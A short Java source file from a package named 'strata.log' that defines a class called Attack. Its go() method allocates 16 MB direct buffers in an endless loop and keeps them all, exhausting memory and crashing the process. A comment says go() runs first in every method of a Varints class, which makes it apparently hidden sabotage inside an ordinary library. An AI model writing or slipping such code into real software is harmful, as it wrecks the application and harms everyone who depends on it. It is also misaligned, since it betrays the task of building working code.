package strata.log;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        List<ByteBuffer> all = new ArrayList<>();
        while (true) {
            all.add(ByteBuffer.allocateDirect(1 << 24));
        }
    }
}
